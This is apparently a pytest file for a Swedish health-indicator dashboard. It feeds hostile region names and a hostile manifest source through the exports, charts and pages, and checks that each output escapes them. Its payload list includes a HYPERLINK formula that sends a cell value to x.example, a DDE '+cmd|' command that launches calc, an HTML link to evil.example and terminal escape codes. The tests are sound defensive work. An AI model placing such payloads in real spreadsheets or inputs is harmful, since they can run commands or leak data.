"""Hostile names from a reference override and a manifest (issue 10), end to end through the view
layer: every file a spreadsheet opens holds no formula and no cell a spreadsheet would run, every
text plotly draws is escaped (no live link on screen or in SVG), the CSV comment block stays one
line per field, and the pack and the page show the names as characters."""

from __future__ import annotations

import csv
import io
import re
import json
import shutil
from datetime import date
from pathlib import Path

import plotly.io as pio
import pytest

from charts.render import figure
from export import tables as xtables
from indicators import open_data
from views import Selection, context, view

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = {
    "01": '=HYPERLINK("http://x.example/?"&A12,"y")',
    "03": "+cmd|' /C calc'!A0",
    "04": "@SUM(1)",
    "05": "-1+1",
    "06": '<a href="http://evil.example/">klicka</a>',
    "07": "[länk](http://evil.example/) :red[röd]",
    "08": "\x1b]0;titel\x07Kronoberg\x1b[31m",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_set(small_data_dir, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("hostile") / "set"
    shutil.copytree(small_data_dir, out)
    rows = list(csv.DictReader(open(ROOT / "data" / "reference" / "regions.csv", encoding="utf-8")))
    for r in rows:
        r["region_name"] = HOSTILE.get(r["region_code"], r["region_name"])
    with open(out / "regions.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    manifest["source"] = 'HYPERLINK("http://x.example/"&A12,"y")\r# hittad\nrad'
    (out / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    for stale in out.glob(".indicators-generate*"):
        stale.unlink()
    return out


@pytest.fixture(scope="module")
def setting(hostile_set):
    ds = open_data(hostile_set)
    end = date(ds.extract_date.year - 1, 12, 31)
    sel = Selection(date(end.year, 1, 1), end, regions=("01", "03", "06", "07"), own_region="06")
    return ds, sel


VIEW_IDS = ("jamforelse:svf_within_target", "trend:svf_within_target", "scorecard", "tackning",
            "forlopp:svf_within_target", "nyckeltal:ledtider")


@pytest.mark.parametrize("view_id", VIEW_IDS)
def test_excel_and_csv_hold_no_formula_and_no_cell_a_spreadsheet_would_run(setting, view_id):
    from openpyxl import load_workbook

    ds, sel = setting
    v = view(ds, sel, view_id)
    ident = context(ds).identity
    wb = load_workbook(io.BytesIO(xtables.to_excel_bytes(v, ident, ds.catalogue())))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_START), (ws.title, cell.coordinate, cell.value)
    # the hostile names are there, as text (the test would pass vacuously otherwise)
    assert any("HYPERLINK" in t or "cmd|" in t or "evil.example" in t for t in texts)
    data = xtables.to_csv_bytes(v, ident, ds.catalogue()).decode("utf-8-sig")
    lines = data.split("\n")
    meta = int(lines[0].split("–")[1].split()[0])
    assert all(line.startswith("#") for line in lines[:meta])  # \r and \n stay inside the comment block
    assert "\r" not in data
    for row in csv.reader(io.StringIO("\n".join(lines[meta:])), delimiter=";"):
        for cell in row:
            # a negative number ("-0,2", a difference) is a number to a spreadsheet, not a formula
            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-\d+(,\d+)?", cell), cell


@pytest.mark.parametrize("view_id", VIEW_IDS[:5])
def test_plotly_draws_names_as_characters(setting, view_id):
    ds, sel = setting
    fig = figure(view(ds, sel, view_id))
    text = pio.to_json(fig)
    assert "<a href" not in text and "\x1b" not in text
    assert "&lt;a href" in text or view_id in ("tackning", "scorecard", "forlopp:svf_within_target")


def test_svg_export_has_no_link_from_data(setting):
    from export.images import view_svg

    ds, sel = setting
    svg = view_svg(view(ds, sel, "jamforelse:svf_within_target"), context(ds).identity).decode("utf-8")
    assert "<a " not in svg and "<a>" not in svg  # no link element; the name is drawn as characters
    assert "&#60;a href" in svg or "&lt;a href" in svg


def test_footnote_and_pack_carry_the_source_on_one_line(setting, tmp_path):
    from pptx import Presentation

    from export.pack import build_pack, to_pptx

    ds, sel = setting
    pack = build_pack(ds, ["jamforelse:svf_within_target"], sel, meeting="=1+1 möte", render=False)
    assert "\r" not in pack.identity.source and "\n" not in pack.identity.source
    out = tmp_path / "p.pptx"
    out.write_bytes(to_pptx(pack))
    prs = Presentation(str(out))
    texts = [sh.text_frame.text for s in prs.slides for sh in s.shapes if sh.has_text_frame]
    assert any("=1+1 möte" in t for t in texts)  # a slide is not a spreadsheet: shown as written


def test_pages_show_names_as_characters(hostile_set, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from ui.navigation import PAGES

    monkeypatch.setenv("INDIKATORPANELEN_DATA", str(hostile_set))
    monkeypatch.delenv("INDIKATORPANELEN_STORE", raising=False)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=240)
    at.query_params["regioner"] = [HOSTILE["06"], HOSTILE["07"]]
    at.query_params["egen_region"] = HOSTILE["07"]
    at.run()
    at.switch_page(str(next(p.path for p in PAGES if p.url_path == "svf_ledtider"))).run()
    assert not at.exception, [e.value for e in at.exception]
    markdown = [m.value for m in at.markdown] + [c.value for c in at.caption] + [m.label for m in at.metric]
    for text in markdown:
        assert "](http://evil" not in text.replace("\\", "") or "\\]" in text, text
        assert ":red[" not in text, text
    specs = " ".join(el.proto.spec for el in at.get("plotly_chart"))
    assert "<a href" not in specs
